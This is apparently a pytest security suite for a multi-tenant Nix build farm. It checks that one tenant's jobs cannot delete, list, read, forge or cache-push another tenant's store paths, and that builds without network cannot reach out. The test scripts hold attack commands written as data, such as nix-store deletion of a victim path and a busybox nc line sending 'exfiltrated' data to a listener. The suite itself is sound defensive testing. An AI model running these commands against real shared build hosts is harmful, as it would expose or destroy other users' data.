"""A job's Nix is its own: it cannot delete, collect, list or read other tenants' store
paths, and its builds have no network when the job has none (issue 12, points 1-3).
The same attacks fail in a VM, whose guest reaches its own proxy through the VM's Nix
port (``test_in_a_vm_the_store_attacks_fail_and_own_builds_are_read_and_pushed``:
one job, TCG is slow)."""

from __future__ import annotations

import hashlib
import re
import socket
import subprocess
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.fixtures.farm import RunningFarm
from tests.security.conftest import Tenant

BUSYBOX = 'bb=$(readlink -f /bin/busybox | cut -d/ -f1-4)'


def statuses(log: str) -> dict[str, int]:
    """``name=status`` lines the attack scripts print (not their ``set -x`` echo)."""
    return {m.group(1): int(m.group(2)) for m in re.finditer(r"^(\w+)=(\d+)$", log, re.M)}


def attempt(name: str, command: str) -> str:
    """A shell line that runs ``command`` and prints ``name=<its status>``."""
    return f"if {command}; then echo {name}=0; else echo {name}=$?; fi\n"


def host_valid(path: str) -> bool:
    return subprocess.run(["nix-store", "--check-validity", path],
                          capture_output=True).returncode == 0


def added_by(tenant: Tenant, content: str) -> str:
    """A store path ``tenant``'s job adds holding ``content`` (left in the host's store)."""
    job, log = tenant.run({"add": f"printf '%s' '{content}' > f\n"
                                  "echo ADDED $(nix-store --add f)\n"})
    assert job["status"] == "success", log
    (path,) = set(re.findall(r"^ADDED (/nix/store/\S+)$", log, re.M))
    assert host_valid(path)
    return str(path)


def whole_store_attacks(victim: str) -> str:
    return (attempt("delete", f"nix-store --delete {victim}")
            + attempt("roots", "nix-store --gc --print-roots")
            + attempt("dead", "nix-store --gc --print-dead")
            + attempt("all", "nix --extra-experimental-features nix-command path-info --all")
            + attempt("valid", f"nix-store --check-validity {victim}"))


def check_whole_store_attacks(victim: str, found: dict[str, int], log: str) -> None:
    assert {"delete", "roots", "dead", "all", "valid"} <= set(found), log
    assert all(found[name] != 0 for name in ("delete", "roots", "dead", "all", "valid")), log
    assert "CollectGarbage is not available to jobs" in log
    assert "FindRoots is not available to jobs" in log
    assert "QueryAllValidPaths is not available to jobs" in log
    assert host_valid(victim)  # still there for alice's next job and her cache push
    # The listing did not happen: no path of the host's store is in the log but the
    # attacked one and the job's own.
    assert "/proc" not in log and "gcroots" not in log


def test_a_job_cannot_delete_collect_or_list_the_store(alice: Tenant, mallory: Tenant) -> None:
    victim = added_by(alice, f"alice-work-{uuid.uuid4().hex}")
    job, log = mallory.run({"attack": whole_store_attacks(victim)})
    assert job["status"] == "success", log
    found = statuses(log)
    assert set(found) == {"delete", "roots", "dead", "all", "valid"}, log
    check_whole_store_attacks(victim, found, log)


READ_NIX = """\
{ bb, p }:
let b = builtins.storePath bb; in
derivation {
  name = "peek"; system = builtins.currentSystem; builder = "${b}/bin/sh";
  args = [ "-c" "${b}/bin/cat ${builtins.storePath p}; ${b}/bin/mkdir $out" ];
}
"""


def read_attacks(victim: str) -> str:
    return (f"cat > read.nix <<'EOF'\n{READ_NIX}EOF\n{BUSYBOX}\n"
            + attempt("build", f'nix-build read.nix --argstr bb "$bb" --argstr p {victim}')
            + attempt("realise", f"nix-store --realise {victim}")
            + attempt("refs", f"nix-store --query --references {victim}")
            + attempt("cat", f"cat {victim}"))


def check_read_attacks(victim: str, secret: str, found: dict[str, int], log: str) -> None:
    assert {"build", "realise", "refs", "cat"} <= set(found), log
    assert all(found[name] != 0 for name in ("build", "realise", "refs", "cat")), log
    assert secret not in log
    assert f"{victim} is not a store path of this job" in log


def test_a_job_cannot_read_another_tenants_store_path(alice: Tenant, mallory: Tenant) -> None:
    secret = f"alice-secret-{uuid.uuid4().hex}"
    victim = added_by(alice, secret)
    job, log = mallory.run({"peek": read_attacks(victim)})
    assert job["status"] == "success", log
    found = statuses(log)
    assert set(found) == {"build", "realise", "refs", "cat"}, log
    check_read_attacks(victim, secret, found, log)

    # Her own job may use it, as before: same owner, its own path.
    own = (f"cat > read.nix <<'EOF'\n{READ_NIX}EOF\n{BUSYBOX}\n"
           f"printf '%s' '{secret}' > f\np=$(nix-store --add f)\n"
           'nix-build read.nix --argstr bb "$bb" --argstr p "$p"\n')
    job, log = alice.run({"own": own})
    assert job["status"] == "success", log


def test_a_job_can_still_build_and_query_its_own_paths(mallory: Tenant) -> None:
    marker = uuid.uuid4().hex
    script = (f"{BUSYBOX}\n"
              f"cat > own.nix <<'EOF'\n{{ bb }}:\nderivation {{ name = \"own-{marker}\"; "
              "system = builtins.currentSystem; builder = \"${builtins.storePath bb}/bin/sh\";"
              f" args = [ \"-c\" \"echo {marker} > $out\" ]; }}\nEOF\n"
              'out=$(nix-build own.nix --argstr bb "$bb")\n'
              "nix-store --check-validity $out\n"
              "nix-store -qR $out\n")
    job, log = mallory.run({"own": script})
    assert job["status"] == "success", log


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP listener on the host's 127.0.0.1; what connects is recorded."""
    got: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    done = threading.Event()

    def accept() -> None:
        while not done.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    got.append(conn.recv(4096) or b"(connected)")
                except OSError:
                    got.append(b"(connected)")

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], got
    done.set()
    thread.join()
    server.close()


FOD_NIX = """\
{ bb, port, marker }:
derivation {
  name = "fetch-${marker}"; system = builtins.currentSystem;
  builder = "${builtins.storePath bb}/bin/sh";
  args = [ "-c" ''
    echo exfiltrated-${marker} | ${builtins.storePath bb}/bin/nc 127.0.0.1 ${port}
    ${builtins.storePath bb}/bin/cat /proc/net/dev
    echo x > $out
  '' ];
  outputHashMode = "flat"; outputHashAlgo = "sha256"; outputHash = "@HASH@";
}
"""


def test_fixed_output_builds_of_a_job_without_network_have_none(
        mallory: Tenant, listener: tuple[int, list[bytes]]) -> None:
    port, got = listener
    marker = uuid.uuid4().hex[:12]
    nix = FOD_NIX.replace("@HASH@", hashlib.sha256(b"x\n").hexdigest())
    script = (f"{BUSYBOX}\ncat > fod.nix <<'EOF'\n{nix}EOF\n"
              f'nix-build fod.nix --argstr bb "$bb" --argstr port {port} '
              f"--argstr marker {marker}\n")
    job, log = mallory.run({"fetch": script})
    assert job["status"] == "success", log  # it built, without the network
    assert got == [], got
    interfaces = re.findall(r"^\s*([\w-]+):\s+\d", log, re.M)
    assert interfaces and set(interfaces) <= {"lo"}, log


@pytest.fixture
def host_path(tmp_path: Path) -> Iterator[tuple[str, str]]:
    """A path in the host's store, in no job's closure: (path, its secret content)."""
    secret = f"host-only-{uuid.uuid4().hex}"
    (tmp_path / "secret").write_text(secret)
    path = subprocess.run(["nix-store", "--add", str(tmp_path / "secret")], check=True,
                          capture_output=True, text=True).stdout.strip()
    yield path, secret
    subprocess.run(["nix-store", "--delete", path], capture_output=True)


def test_the_hosts_store_is_out_of_sight(attacker: Tenant,
                                         host_path: tuple[str, str]) -> None:
    """In each sandbox: a host path outside the job's closure is neither on its disk
    nor reachable through its Nix (a socket in each: its own proxy)."""
    path, secret = host_path
    script = (attempt("read", f"cat {path}")
              + attempt("listed", f"ls /nix/store | grep -q {path.split('/')[3]}")
              + attempt("socket", "test -S /nix/var/nix/daemon-socket/socket")
              + attempt("valid", f"nix-store --check-validity {path}")
              + attempt("dump", f"nix-store --dump {path} > dumped && grep -q {secret} dumped"))
    job, log = attacker.run({"peek": script})
    assert job["status"] == "success", log
    found = statuses(log)
    assert secret not in log.replace(f"grep -q {secret}", "")
    assert all(found[name] != 0 for name in ("read", "listed", "valid", "dump")), log
    # Both have Nix: bwrap's through the socket bound in, a VM's through its relay.
    assert found["socket"] == 0, log


def test_cache_push_takes_only_the_jobs_own_paths(alice: Tenant, mallory: Tenant) -> None:
    farm = mallory.farm
    victim = added_by(alice, f"alice-pushed-{uuid.uuid4().hex}")
    cache, _ = farm.create_cache()
    pusher = farm.cli("token", "create", "--name", f"pusher-{uuid.uuid4().hex[:6]}",
                      "--scope", "jobs:submit", "--scope", f"cache:{cache}:push"
                      ).stdout.strip()
    thief = Tenant(farm, "thief", pusher)
    job, log = thief.run({"link": f"ln -s {victim} result\n"}, f"cache: {cache}\n")
    assert job["status"] == "failed", log
    assert f"points at {victim}, which is not a store path of this job" in job["reason"]
    narinfo = farm.get(f"/cache/{cache}/{victim.split('/')[3][:32]}.narinfo")
    assert narinfo.status_code == 404


def forge_attacks(victim: str) -> str:
    # A .drv text naming her path as its output: the daemon refuses to register it,
    # and the proxy must not take the output from the text alone.
    forged = (f'builtins.toFile "forged.drv" '
              f'"Derive([(\\"out\\",\\"{victim}\\",\\"\\",\\"\\")],[],[],'
              f'\\"x86_64-linux\\",\\"/bin/sh\\",[],[])"')
    return (f"cat > forged.nix <<'EOF'\n{forged}\nEOF\n"
            + attempt("forge", "nix-instantiate --eval --read-write-mode forged.nix")
            + f"cat > read.nix <<'EOF'\n{READ_NIX}EOF\n{BUSYBOX}\n"
            + attempt("forgebuild", f'nix-build read.nix --argstr bb "$bb" --argstr p {victim}')
            + attempt("forgevalid", f"nix-store --check-validity {victim}"))


def test_a_forged_derivation_does_not_open_another_tenants_path(alice: Tenant,
                                                              mallory: Tenant) -> None:
    secret = f"alice-forged-{uuid.uuid4().hex}"
    victim = added_by(alice, secret)
    job, log = mallory.run({"forge": forge_attacks(victim)})
    assert job["status"] == "success", log
    found = statuses(log)
    assert found["forge"] != 0 and found["forgebuild"] != 0 and found["forgevalid"] != 0, log
    assert secret not in log


SAME_OUTPUT_NIX = """\
{ bb, marker, says }:
derivation {
  name = "fetched-${marker}"; system = builtins.currentSystem;
  builder = "${builtins.storePath bb}/bin/sh";
  args = [ "-c" "echo ${says}; echo x > $out" ];
  outputHashMode = "flat"; outputHashAlgo = "sha256"; outputHash = "@HASH@";
}
"""


def test_cache_push_sends_no_build_log_of_another_tenant(alice: Tenant,
                                                         mallory: Tenant) -> None:
    farm = mallory.farm
    marker = uuid.uuid4().hex[:12]
    secret = f"https://alice:{uuid.uuid4().hex}@example.org/x"
    nix = SAME_OUTPUT_NIX.replace("@HASH@", hashlib.sha256(b"x\n").hexdigest())

    def build(says: str) -> str:
        return (f"{BUSYBOX}\ncat > same.nix <<'EOF'\n{nix}EOF\n"
                f'echo DRV $(nix-instantiate same.nix --argstr bb "$bb" '
                f"--argstr marker {marker} --argstr says '{says}')\n"
                f'nix-build same.nix --argstr bb "$bb" --argstr marker {marker} '
                f"--argstr says '{says}'\n")

    # Alice's fixed-output derivation logs a URL with her credentials; Mallory's, a
    # different derivation with the same output, is never built: the host's store
    # names Alice's as the output's deriver.
    job, log = alice.run({"fetch": build(secret)})
    assert job["status"] == "success", log
    (drv,) = set(re.findall(r"^DRV (/nix/store/\S+\.drv)$", log, re.M))
    assert secret in subprocess.run(["nix-store", "--read-log", drv], capture_output=True,
                                    text=True).stdout
    cache, _ = farm.create_cache()
    pusher = farm.cli("token", "create", "--name", f"pusher-{uuid.uuid4().hex[:6]}",
                      "--scope", "jobs:submit", "--scope", f"cache:{cache}:push"
                      ).stdout.strip()
    thief = Tenant(farm, "thief", pusher)
    job, log = thief.run({"fetch": build("nothing")}, f"cache: {cache}\n")
    assert job["status"] == "success", log
    assert f"Pushed the build log of {drv}" not in log, log
    assert farm.get(f"/cache/{cache}/log/{drv.split('/')[-1]}").status_code == 404
    assert secret not in log



def own_build(marker: str) -> str:
    """A task building a derivation of the job's own, leaving ``result``, and reading it."""
    return (f"{BUSYBOX}\n"
            f"cat > own.nix <<'EOF'\n{{ bb }}:\nderivation {{ name = \"own-{marker}\"; "
            "system = builtins.currentSystem; builder = \"${builtins.storePath bb}/bin/sh\";"
            f" args = [ \"-c\" \"echo building-{marker}; echo made-{marker} > $out\" ]; }}\n"
            "EOF\n"
            'nix-build own.nix --argstr bb "$bb"\n'
            "cat result\n")


@pytest.mark.slow
def test_in_a_vm_the_store_attacks_fail_and_own_builds_are_read_and_pushed(
        alice: Tenant, vm_farm: RunningFarm) -> None:
    """The attacks above from a VM job, on a path another tenant added to the host's
    store that the VM runner shares; and ``cache:`` in a VM: the guest reads what it
    built, the runner pushes it from the VM's proxy's view. One job, each part a task:
    one boot (TCG is slow)."""
    secret = f"alice-vm-{uuid.uuid4().hex}"
    victim = added_by(alice, secret)
    marker = uuid.uuid4().hex
    cache, _ = vm_farm.create_cache()
    token = vm_farm.cli("token", "create", "--name", f"mallory-vm-{uuid.uuid4().hex[:6]}",
                        "--scope", "jobs:submit", "--scope", f"cache:{cache}:push"
                        ).stdout.strip()
    attacker = Tenant(vm_farm, "mallory-vm", token)
    job, log = attacker.run({"attack": whole_store_attacks(victim),
                             "peek": read_attacks(victim),
                             "forge": forge_attacks(victim),
                             "own": own_build(marker)}, f"cache: {cache}\n", seconds=600)
    assert job["status"] == "success", log
    assert "a VM (" in log  # (the setup log says how it booted)
    found = statuses(log)
    check_whole_store_attacks(victim, found, log)
    check_read_attacks(victim, secret, found, log)
    assert found["forge"] != 0 and found["forgebuild"] != 0 and found["forgevalid"] != 0, log

    assert f"made-{marker}" in log.splitlines()  # the guest reads what it built
    (out,) = set(re.findall(rf"/nix/store/[a-z0-9]{{32}}-own-{marker}(?!\.drv)", log))
    assert f"Pushed {out}" in log and f"Pushed {victim}" not in log
    narinfo = vm_farm.get(f"/cache/{cache}/{out.split('/')[3][:32]}.narinfo")
    assert narinfo.status_code == 200, narinfo.text
    deriver = next(line.split(": ", 1)[1] for line in narinfo.text.splitlines()
                   if line.startswith("Deriver: "))
    build_log = vm_farm.get(f"/cache/{cache}/log/{deriver}")
    assert build_log.status_code == 200 and f"building-{marker}" in build_log.text
